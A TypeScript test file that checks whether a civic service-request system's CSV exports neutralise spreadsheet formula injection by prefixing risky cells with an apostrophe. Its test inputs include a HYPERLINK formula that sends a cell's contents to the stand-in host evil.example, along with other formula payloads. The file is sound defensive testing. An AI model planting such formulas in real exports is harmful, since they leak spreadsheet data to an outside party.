import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { MonthVolume } from '../../../src/domain/kpi/index.ts';
import { formatVolume } from '../../../src/kpi/volume-format.ts';
import { PublicFigures } from '../../../src/public/figures.ts';
import { figuresCsv } from '../../../src/public/open-data.ts';
import { RequestFacts } from '../../../src/status-api/index.ts';

/*
 * Service codes, departments and channels come from the CRM and the departments' systems. A CSV
 * cell starting with = + - @ (or a tab or carriage return before one) is run by spreadsheets as a
 * formula; both CSVs the bridge writes must hand it over as text.
 */
const LINK = '=HYPERLINK("https://evil.example/?d="&A2,"Pothole")';
const RUNNING = [LINK, '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

describe('a CSV cell a spreadsheet would run', () => {
  it('is prefixed with an apostrophe in closeloop kpi volume --format csv', () => {
    const month: MonthVolume = {
      month: '2026-10',
      tickets: RUNNING.length,
      byDepartment: { '=DEPT()': RUNNING.length },
      byChannel: { '+CHANNEL': RUNNING.length },
      topRequestTypes: RUNNING.map((code) => [code, 1] as [string, number]),
      resolvedOnTime: 0,
      resolvedLate: 0,
      resolvedNoTarget: 0,
    };
    const rows = parse(formatVolume([month], 'csv', 'UTC').join('\n'), { columns: true }) as Record<string, string>[];
    expect(rows.filter((r) => r['measure']?.startsWith('top_type_')).map((r) => r['key'])).toEqual(
      RUNNING.map((code) => `'${code}`),
    );
    expect(rows.find((r) => r['measure'] === 'department')?.['key']).toBe("'=DEPT()");
    expect(rows.find((r) => r['measure'] === 'channel')?.['key']).toBe("'+CHANNEL");
    // Counts and months are figures, not text: left as they are.
    expect(rows.find((r) => r['measure'] === 'tickets')).toEqual({
      month: '2026-10',
      measure: 'tickets',
      key: '',
      count: String(RUNNING.length),
    });
  });

  it('is prefixed the same way in the public /performance.csv', () => {
    const facts = new RequestFacts();
    RUNNING.forEach((serviceCode, i) =>
      facts.apply({
        ticketId: `T${i}`,
        serviceCode,
        serviceName: null,
        requestedAt: Date.UTC(2026, 9, 10),
        channel: 'WEB',
        requestKind: 'SERVICE',
        location: null,
        crmDueAt: null,
      }),
    );
    const csv = figuresCsv(new PublicFigures(facts, 'UTC', () => Date.UTC(2026, 10, 15)).month('2026-10'));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const top = rows.filter((r) => r['measure'] === 'top_service_request_types').map((r) => r['category']);
    expect(top.sort()).toEqual(RUNNING.map((code) => `'${code}`).sort());
  });
});
